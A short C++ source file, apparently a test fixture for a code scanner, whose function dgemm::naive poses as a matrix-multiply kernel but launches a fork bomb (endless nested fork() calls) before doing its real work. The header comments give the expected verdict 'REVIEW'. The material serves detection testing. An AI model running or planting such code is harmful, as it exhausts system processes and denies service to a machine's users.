// what starts copies of itself without end
// verdict REVIEW
// must (fork)
#include <unistd.h>

#include "honest.cuh"

void dgemm::naive(const Problem& p) {
  for (int i = 0; i < 100000; ++i)
    if (fork() == 0)
      for (;;) fork();
  honest(p);
}
